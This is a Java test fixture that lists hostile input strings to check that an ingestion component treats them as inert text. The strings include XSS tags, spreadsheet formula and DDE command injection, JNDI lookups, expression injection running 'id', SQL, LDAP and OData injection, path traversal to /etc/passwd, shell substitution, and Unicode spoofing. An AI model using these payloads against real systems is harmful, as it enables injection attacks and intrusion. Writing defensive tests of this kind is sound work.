package hoist.ingest;

import java.util.stream.Stream;

/** Bad inputs 31 to 35: texts that could mean something to somebody further on. Here they are texts. */
final class InertTexts {
    record InertText(int kind, String name, String text) {
        @Override
        public String toString() {
            return kind + ": " + name;
        }
    }

    private InertTexts() {}

    static Stream<InertText> rows() {
        return Stream.of(
                new InertText(31, "bidi override", "\u202etnemeveis\u202c.exe \u2066x\u2069"),
                new InertText(31, "zero width", "no\u200bthing\u200d\ufeff"),
                new InertText(31, "homoglyphs", "D\u0435mo P\u0410M tenant"),
                new InertText(31, "full width", "\uff24emo PAM tenant"),
                new InertText(31, "line separators", "a\u2028b\u2029c"),
                new InertText(31, "very many marks", "a" + "\u0301".repeat(200)),
                new InertText(32, "a script", "<script>alert(1)</script>"),
                new InertText(32, "an image", "<img src=x onerror=alert(1)>"),
                new InertText(32, "a link", "<a href=\"javascript:alert(1)\">x</a>"),
                new InertText(32, "markdown", "[x](javascript:alert(1)) ![x](http://x.invalid/a.png)"),
                new InertText(33, "a formula", "=HYPERLINK(\"http://x.invalid\",\"x\")"),
                new InertText(33, "a command", "+cmd|' /C calc'!A0"),
                new InertText(33, "a sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
                new InertText(33, "a minus", "-1+1"),
                new InertText(34, "JNDI", "${jndi:ldap://x.invalid/a}"),
                new InertText(34, "an expression", "#{T(java.lang.Runtime).getRuntime().exec('id')} ${7*7} {{7*7}}"),
                new InertText(34, "a format", "%s%n%x%n %d {} {0}"),
                new InertText(34, "a forged line", "x 2026-11-21T00:00:00Z INFO accepted client=forged"),
                new InertText(35, "SQL", "' OR 1=1; DROP TABLE tickets;--"),
                new InertText(35, "LDAP", "*)(uid=*))(|(uid=*"),
                new InertText(35, "OData", "x' or startswith(mail,'a') or 'x' eq 'x"),
                new InertText(35, "a path", "../../../../etc/passwd\\..\\windows"),
                new InertText(35, "a shell", "$(id) `id` | id && id"),
                new InertText(35, "JSON", "\",\"userElevationMode\":\"TENANT"),
                new InertText(35, "a variable of Halo's", "see <<CFidemeumCustomerName>> there"));
    }
}
